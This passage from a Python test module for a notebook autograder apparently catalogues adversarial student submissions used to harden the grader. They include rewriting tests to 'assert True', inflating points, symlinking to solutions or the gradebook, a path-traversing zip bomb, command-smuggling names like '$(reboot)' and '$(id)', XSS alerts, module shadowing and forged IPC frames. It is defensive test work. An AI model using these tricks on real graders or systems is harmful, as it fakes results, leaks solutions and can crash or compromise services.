                      "    @property\n    def counts(self):\n        self.looks += 1\n"
                      "        return {'a': 1, 'b': 2} if self.looks > 1 else {}\n"
                      "    def most_common(self): return 'b'"},
        (C,),
    ),
    Attack(
        "value-spreads-in-the-judge", VALUES,
        {"e_square": "def square(n):\n"
                     "    shape = {1: (30_000, 1), 2: (1, 30_000)}.get(n, (1, 1))\n"
                     "    return np.full(shape, n * n, dtype=float)"},
        (E,), harms="takes seven gigabytes",
    ),
    Attack(
        "value-length-of-minus-one", VALUES,
        {"d_model": "class Model:\n    weights = property(lambda s: s)\n"
                    "    def __len__(self): return -1\n    def __getitem__(self, k): return k\n"
                    "    def predict(self, X): return self\nmodel = Model()"},
        (D, E),
    ),
]  # fmt: skip

# --- edited notebooks -------------------------------------------------------------------------
EDITED = "edited metadata, points, tests, ids"


def about(notebook: NotebookNode, name: str, **changes: object) -> None:
    """Change what the notebook says of a cell."""
    cell(notebook, name).metadata.nbgrader.update(changes)


def move_to_the_front(notebook: NotebookNode, name: str) -> None:
    """Put a cell before all others."""
    moved = cell(notebook, name)
    notebook.cells.remove(moved)
    notebook.cells.insert(0, moved)


def twin(notebook: NotebookNode, name: str, source: str) -> None:
    """Add a second cell with the same metadata at the end."""
    second = copy.deepcopy(cell(notebook, name))
    second.update(id="twin", source=source)
    notebook.cells.append(second)


def into_text(notebook: NotebookNode, name: str) -> None:
    """Turn a test into text that keeps its metadata."""
    position = notebook.cells.index(cell(notebook, name))
    metadata = notebook.cells[position].metadata
    notebook.cells[position] = nbformat.v4.new_markdown_cell("fine", id=name, metadata=metadata)


def easy_tests(notebook: NotebookNode) -> None:
    """Replace every test by one that always succeeds."""
    for name in ALL:
        cell(notebook, name).source = "assert True"


BAD = {"a_double": WRONG}
edited = [
    Attack("edit-points", EDITED, BAD, (A,), change=lambda nb: [
        about(nb, name, points=100) for name in ALL]),
    Attack("edit-tests", EDITED, BAD, (A,), change=easy_tests, noticed="Test cells edited"),
    Attack("edit-unlocked-test", EDITED, BAD, (A,), change=lambda nb: (
        about(nb, A, locked=False), cell(nb, A).update(source="assert True")),
        noticed="Test cells edited"),
    Attack("edit-test-into-answer", EDITED, BAD, (A,), change=lambda nb: about(
        nb, A, solution=True, grade=True, checksum="0")),
    Attack("edit-test-no-longer-graded", EDITED, BAD, (A,), change=lambda nb: about(
        nb, A, grade=False)),
    Attack("edit-test-into-text", EDITED, BAD, (A,), change=lambda nb: into_text(nb, A)),
    Attack("edit-swapped-ids", EDITED, {"e_square": "def square(n): return 0"}, (E,),
           change=lambda nb: (about(nb, A, grade_id=E), about(nb, E, grade_id=A))),
    Attack("edit-deleted-test", EDITED, BAD, (A,), change=lambda nb: nb.cells.remove(cell(nb, A)),
           noticed="Cells deleted: test_a_double"),
    Attack("edit-deleted-everything", EDITED, {}, ALL, change=lambda nb: nb.update(cells=[]),
           noticed="Cells deleted"),
    Attack("edit-twin-test", EDITED, BAD, (A,), change=lambda nb: twin(nb, A, "assert True"),
           noticed="stand twice: test_a_double"),
    Attack("edit-twin-cell-id", EDITED, BAD, (A,), change=lambda nb: nb.cells.append(
        nbformat.v4.new_code_cell("assert True", id=A))),
    Attack("edit-id-of-deleted-test", EDITED, BAD, (A,), change=lambda nb: cell(nb, A).update(
        metadata=NotebookNode(), source="assert True"), noticed="Cells deleted: test_a_double"),
    Attack("edit-id-of-the-notice", EDITED, BAD, (A,), change=lambda nb: (
        about(nb, B, grade_id="other"), nb.cells.append(
            nbformat.v4.new_markdown_cell("mine", id="noticed-while-grading")))),
    Attack("edit-own-graded-cell", EDITED, BAD, (A,), change=lambda nb: nb.cells.append(
        nbformat.v4.new_code_cell("100", id="mine", metadata={"nbgrader": dict(
            cell(nb, A).metadata.nbgrader, grade_id="mine", points=100)}))),
    Attack("edit-tests-first", EDITED, {}, (A,), change=lambda nb: move_to_the_front(nb, A)),
    Attack("edit-kernel", EDITED, change=lambda nb: nb.metadata.update(
        kernelspec={"name": "bash", "language": "bash", "display_name": "x"})),
    Attack("edit-release-is-text", EDITED, change=lambda nb: nb.metadata.update(
        embcourse="text"), noticed="release"),
    Attack("edit-release-is-a-list", EDITED, change=lambda nb: nb.metadata.update(
        embcourse=[{"release": 3}]), noticed="release"),
    Attack("edit-nbgrader-is-a-list", EDITED, change=lambda nb: [
        each.metadata.update(nbgrader=["grade_id"]) for each in nb.cells], lost=ALL,
        noticed="Cells deleted"),
    Attack("edit-schema", EDITED, change=lambda nb: [
        about(nb, name, schema_version=99) for name in ALL]),
    Attack("edit-script-in-text", EDITED, change=before(
        "<script>alert(31337)</script><img src=x onerror='alert(31337)'>", "markdown")),
    Attack("edit-raw-html", EDITED, change=before("<script>alert(31337)</script>", "raw")),
]  # fmt: skip

# --- broken, huge, old ------------------------------------------------------------------------
BROKEN = "broken, huge or old-format notebooks"


def old_format(notebook: NotebookNode) -> str:
    """Write the notebook as IPython 2 would have."""
    return nbformat.writes(nbformat.convert(notebook, 3), version=3)


def broken_one(name: str, content: str | bytes, noticed: str = "graded as a blank one") -> Attack:
    """Make an attack that hands in a given content."""
    return Attack(f"broken-{name}", BROKEN, {}, ALL, change=lambda nb: content, noticed=noticed)


broken = [
    broken_one("no-json", "PK not a notebook", "not JSON"),
    broken_one("no-text", bytes(range(256)), "not JSON"),
    broken_one("deep-json", "[" * 200_000),
    broken_one("deep-json-in-metadata", '{"cells": [], "nbformat": 4, "nbformat_minor": 5, '
               '"metadata": {"a": ' + '{"b":' * 700 + "1" + "}" * 700 + "}}", ""),
    broken_one("huge-number", '{"cells": [], "nbformat": ' + "9" * 10_000 + ', "metadata": {}}'),
    broken_one("future-format", '{"cells": [], "nbformat": 99, "nbformat_minor": 0, '
               '"metadata": {}}'),
    broken_one("no-format", '{"cells": [], "metadata": {}}', "release unknown"),
    broken_one("cells-of-numbers", '{"cells": [1, null, "x"], "nbformat": 4, "nbformat_minor": 5, '
               '"metadata": {}}'),
    broken_one("source-is-a-number", '{"cells": [{"cell_type": "code", "source": 3, "id": "a", '
               '"metadata": {}, "outputs": [], "execution_count": null}], "nbformat": 4, '
               '"nbformat_minor": 5, "metadata": {}}'),
    broken_one("metadata-is-a-list", '{"cells": [], "nbformat": 4, "nbformat_minor": 5, '
               '"metadata": []}'),
    broken_one("twelve-megabytes", "[" + " " * 12_000_000 + "]", "12 MB"),
    Attack("broken-old-format", BROKEN, {}, ALL, change=old_format,
           noticed="Save it from Jupyter"),
    Attack("broken-surrogate", BROKEN, change=before("x = '\ud800'  # half a character")),
    Attack("broken-surrogate-in-text", BROKEN,
           change=before("half \ud800 a character", "markdown")),
    Attack("broken-null", BROKEN, change=before("x = '\0'")),
    Attack("broken-syntax", BROKEN, {"a_double": "def double(x: return"}, (A,)),
    Attack("broken-long-line", BROKEN, {"a_double": "double = lambda x: " + "-" * 200_000 + "x"},
           (A,)),
    Attack("broken-nan-in-metadata", BROKEN, change=lambda nb: nb.metadata.update(
        x=float("nan"), y=float("inf"))),
]  # fmt: skip

# --- the folder that is handed in -------------------------------------------------------------
FOLDER = "symlinks, zip bombs, path traversal"
LINKED = "from pathlib import Path\ntext = Path('notes.txt').read_text(errors='replace')\n"


def link(target: str, name: str = "notes.txt") -> Callable[[Path], None]:
    """Return a change that hands in a link, relative to the folder of the submission."""

    def place(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)

    return place


def zip_bomb(folder: Path) -> None:
    """Hand in a small archive of a large file, with a path that leaves the folder."""
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../escaped.txt", bytes(50_000_000))


def large_file(folder: Path) -> None:
    """Hand in a file of forty megabytes that takes no room."""
    with (folder / "large.bin").open("wb") as file:
        file.truncate(40_000_000)


def folder_in_place_of_notebook(folder: Path) -> None:
    """Hand in a folder that is named like the notebook."""
    (folder / f"{NOTEBOOK}.ipynb").unlink()
    (folder / f"{NOTEBOOK}.ipynb").mkdir()


def strange_names(folder: Path) -> None:
    """Hand in files with names that programs stumble over."""
    for name in (b"-rf", b"new\nline", b"half\xff\xfe", b"..\\..\\x", b"$(reboot)", b"a" * 250):
        Path(os.fsdecode(os.path.join(os.fsencode(folder), name))).write_text("x")


NOTEBOOK_FILE = f"{NOTEBOOK}.ipynb"
folders = [
    Attack("folder-link-to-another-student", FOLDER, {}, ALL,
           place=link(f"../../honest-1/{ASSIGNMENT}/{NOTEBOOK_FILE}", NOTEBOOK_FILE)),
    Attack("folder-link-to-the-solution", FOLDER, {}, ALL,
           place=link(f"../../../solutions/{ASSIGNMENT}/{NOTEBOOK_FILE}", NOTEBOOK_FILE)),
    Attack("folder-link-to-nothing", FOLDER, {}, ALL, place=link("nothing", NOTEBOOK_FILE)),
    Attack("folder-link-to-source", FOLDER,
           {"a_double": LINKED + "names = {}\nexec(text.split('# %% tests')[0], names)\n"
                               "double = names['double']"}, (A,),
           place=link(f"../../../solutions/{ASSIGNMENT}/{NOTEBOOK}.py")),
    Attack("folder-link-to-gradebook", FOLDER,
           {"a_double": LINKED + "double = lambda x: 2 * x if 'SQLite' in text else 0"}, (A,),
           place=link("../../../gradebook.db")),
    Attack("folder-link-to-a-folder", FOLDER,
           {"a_double": "from pathlib import Path\nfound = list(Path('notes.txt').rglob('*.py'))\n"
                        "double = lambda x: 2 * x if found else 0"}, (A,),
           place=link("../../../solutions")),
    Attack("folder-link-to-itself", FOLDER, place=link(".", "again")),
    Attack("folder-link-to-a-device", FOLDER, place=link("/dev/null", "device")),
    Attack("folder-pipe", FOLDER, place=lambda folder: os.mkfifo(folder / "pipe")),
    Attack("folder-zip-bomb", FOLDER, place=zip_bomb),
    Attack("folder-large-file", FOLDER, place=large_file),
    Attack("folder-strange-names", FOLDER, place=strange_names),
    Attack("folder-in-place-of-notebook", FOLDER, {}, ALL, place=folder_in_place_of_notebook),
    Attack("folder-own-numpy", FOLDER, place=lambda folder: [
        (folder / f"{name}.py").write_text("raise SystemExit")
        for name in ("numpy", "student", "wire", "msgpack", "embref", "sitecustomize")]),
    Attack("folder-timestamp-of-nonsense", FOLDER,
           place=lambda folder: (folder / "timestamp.txt").write_text("soon")),
    Attack("folder-timestamp-of-bytes", FOLDER,
           place=lambda folder: (folder / "timestamp.txt").write_bytes(b"\xff\xfe\x00")),
    Attack("folder-timestamp-is-a-folder", FOLDER,
           place=lambda folder: (folder / "timestamp.txt").mkdir()),
]  # fmt: skip

STRANGE_IDS = ("-rf", "a b", "x;y", "ada\nbob", "ä", "$(id)", "a'--", "x" * 65, ".hidden")

# --- the channel ------------------------------------------------------------------------------
CHANNEL = "forged frames on the channel"
FIND = """\
import gc, os, socket, struct, time
import msgpack
channel = next(o for o in gc.get_objects() if type(o) is socket.socket and o.fileno() > 0)

def frame(message):
    body = msgpack.packb(message)
    channel.sendall(struct.pack("!I", len(body)) + body)
"""


def forger(name: str, body: str, **more: object) -> Attack:
    """Make an attack that writes to the channel when ``double`` is called."""
    lines = "\n".join(f"    {line}" for line in body.split("\n"))
    source = f"{FIND}\ndef double(x):\n{lines}"
    return Attack(f"channel-{name}", CHANNEL, {"a_double": source}, (A,), **more)


def answer_of(value: str) -> str:
    """Write the body of a function that answers the next twenty questions ahead."""
    return f"for number in range(1, 21): frame({{'id': number, 'value': {value}}})\ntime.sleep(9)"


channel = [
    forger("wrong-ids", "for n in range(100): frame({'id': n + 50, 'value': 6})\nreturn 6"),
    forger("no-id", "frame({'value': 6})\ntime.sleep(9)"),
    forger("no-map", "frame([1, 2, 3])\ntime.sleep(9)"),
    forger("giant-length", "channel.sendall(bytes([255] * 64))\ntime.sleep(9)"),
    forger("half-a-frame", "channel.sendall(struct.pack('!I', 1000) + b'x')\ntime.sleep(9)"),
    forger("drop-by-drop", "channel.sendall(struct.pack('!I', 10**6))\n"
                           "while True: channel.sendall(b'x'); time.sleep(.01)"),
    forger("nested-bomb", "body = b'\\x91' * 10**6\n"
                          "channel.sendall(struct.pack('!I', len(body)) + body)\ntime.sleep(9)"),
    forger("long-array", "body = b'\\xdd\\xff\\xff\\xff\\xff'\n"
                         "channel.sendall(struct.pack('!I', len(body)) + body)\ntime.sleep(9)"),
    forger("many-small-arrays", "body = b'\\xdd\\x00\\x1e\\x84\\x80' + b'\\x90' * 2_000_000\n"
                                "channel.sendall(struct.pack('!I', len(body)) + body)\n"
                                "time.sleep(9)"),
    forger("extension-type", answer_of("msgpack.ExtType(1, b'x')")),
    forger("timestamp", answer_of("msgpack.Timestamp(1)")),
    forger("object-array", answer_of("['a', '|O8', [1], bytes(8)]")),
    forger("record-array", answer_of("['a', 'f8,f8', [1], bytes(16)]")),
    forger("impossible-shape", answer_of("['a', '<f8', [-1, -1], bytes(8)]")),
    forger("endless-shape", answer_of("['a', '<f8', [0, 2**62], b'']")),
    forger("unknown-tag", answer_of("['__class__', 1]")),
    forger("colliding-keys", answer_of(
        "['d', *([k * (2**61 - 1), 0] for k in range(1, 8))]").replace("range(1, 8)",
                                                                     "range(1, 40_000)")),
    forger("unhashable-set", answer_of("['s', ['l']]")),
    forger("handle-of-text", answer_of("['p', 'x', 'y', 'z']")),
    forger("forged-error", "for number in range(1, 21):\n"
           "    frame({'id': number, 'error': ['SystemExit', '', 'SystemExit']})\ntime.sleep(9)"),
    forger("forged-huge-error", "big = 'E' * 9_000_000\nfor number in range(1, 6):\n"
           "    frame({'id': number, 'error': [big, big, 'ValueError']})\ntime.sleep(9)"),
    Attack("channel-forged-cell", CHANNEL, {"e_square": FIND + (
        "big = 'z' * 1_000_000\nfor number in range(1, 40):\n"
        "    frame({'id': number, 'streams': {'stdout': big, 'stderr': 7}, 'error': [[], {}, 3],\n"
        "           'results': [{'text/plain': '99'}] * 9, 'displays': [{'text/html': '<script>',\n"
        "           'text/plain': big, 'text/latex': big, 'image/png': big}] * 9,\n"
        "           'traceback': [big] * 5})\ntime.sleep(9)")}, (E,)),
]  # fmt: skip

ATTACKS: tuple[Attack, ...] = (
    *equal, *forged, *hooks, *reading, *importing, *writing, *left, *exits, *bombs, *network,
    *values, *edited, *broken, *folders, *channel,
)  # fmt: skip
